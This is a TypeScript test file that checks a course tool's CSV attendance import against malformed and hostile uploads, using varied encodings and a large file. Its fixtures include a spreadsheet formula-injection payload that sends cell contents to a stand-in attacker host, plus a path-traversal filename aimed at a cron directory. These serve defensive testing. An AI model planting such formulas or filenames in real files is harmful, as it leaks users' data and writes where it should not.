import { expect } from 'chai'
import type { Visit } from '../../../src/app/contract.ts'
import { type Course, openCourse } from '../course.ts'

const FIRST = { people: 1, rows: 1, ambiguous: 1, unknown: 1, unclear: 1 } as const
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Open")'

describe('a list that was not made with care', () => {
  let course: Course
  let tutor: Visit
  beforeEach(async function () {
    this.timeout(60_000)
    course = await openCourse({ learners: 3 })
    await course.refresh(course.courseId)
    tutor = await course.tutor()
  })
  afterEach(() => course.close())

  const upload = (bytes: Buffer, name = 'Week 3.csv') =>
    course.tool.app.imports.upload(tutor, { name, bytes })
  const view = (id: string) => course.tool.app.imports.view(tutor, id, FIRST)
  const email = (n: number) => `student0${n}@example.test`

  /** Semicolons, formulas, somebody twice with two answers, an answer that is none, an empty line, and a stranger. */
  const lines = [
    'Name;Email;Attended',
    `"${FORMULA.replaceAll('"', '""')}";${email(1)};yes`,
    `Siân;${email(1).toUpperCase()};no`,
    `+441234;${email(2)};${FORMULA.replaceAll(';', ',').replaceAll('"', '')}`,
    ';;',
    `@SUM(A1:A9);${email(3)};yes`,
    '-2+3;stranger@else.example;yes',
  ].join('\r\n')

  for (const [encoding, bytes] of [
    ['UTF-8 with a mark', Buffer.from(`\ufeff${lines}`)],
    ['UTF-16', Buffer.from(`\ufeff${lines}`, 'utf16le')],
    ['Windows-1252', Buffer.from(lines, 'latin1')],
  ] as const)
    it(`in ${encoding} is read row by row: nothing in it runs, nothing is lost unseen`, async () => {
      const id = await upload(bytes)
      const seen = await view(id)
      const { record, plan } = seen
      expect(record.settings.columns).to.include({ name: 0, email: 1, status: 2 })
      expect(seen.sample.rows[0]?.[0], 'as it stands there').to.equal(FORMULA)
      expect(seen.sample.rows[1]?.[0]).to.equal('Siân')
      expect(plan?.counts).to.include({ unknown: 1, blank: 1, repeated: 1, unclear: 1 })
      expect(plan?.people.map(({ person, after }) => [person.email, after.completed]).sort()).to.deep.equal([
        [email(1), true],
        [email(3), true],
      ])
      await course.tool.app.imports.apply(tutor, id, plan?.shown ?? '')
      const made = (await course.tool.store.activities.ofCourse(course.courseId)).find(
        ({ source }) => source === 'import',
      )
      expect(made?.title).to.equal('Week 3')
      const recorded = await course.tool.store.imports.recorded(course.courseId, made?.id ?? '')
      expect([...recorded.values()].map(({ completed }) => completed)).to.deep.equal([true, true])
      // What somebody is called is the VLE's word, never a file's.
      const { listing } = await course.tool.app.progress(tutor, {
        ...{ search: null, holds: null, attention: null, offset: 0, limit: 9 },
      })
      expect(JSON.stringify(listing.rows)).to.not.contain('HYPERLINK')
    })

  it('with a name that leads out of its folder is kept under a name without one', async () => {
    const id = await upload(Buffer.from(lines), '../../../etc/cron.d/Week 3.csv')
    expect((await view(id)).record.fileName).to.not.match(/[/\\]/)
  })

  it('of 100,000 rows finds its learners among strangers, and goes on answering meanwhile', async function () {
    this.timeout(180_000)
    const rows = Array.from({ length: 99_999 }, (_, index) =>
      index === 50_000 ? `${email(2)},45` : `nobody.${index}@else.example,45`,
    )
    const text = ['Email,Duration (Minutes)', ...rows].join('\n')
    let turns = 0
    const ticking = setInterval(() => {
      turns += 1
    }, 20)
    const id = await upload(Buffer.from(text))
    const { plan } = await view(id)
    clearInterval(ticking)
    expect(plan?.people.map(({ person }) => person.email)).to.deep.equal([email(2)])
    expect(plan?.counts).to.include({ unknown: 99_998, new: 1 })
    expect(turns).to.be.greaterThan(5)
    await course.tool.app.imports.apply(tutor, id, plan?.shown ?? '')
    expect((await view(id)).written).to.equal(1)
  })
})
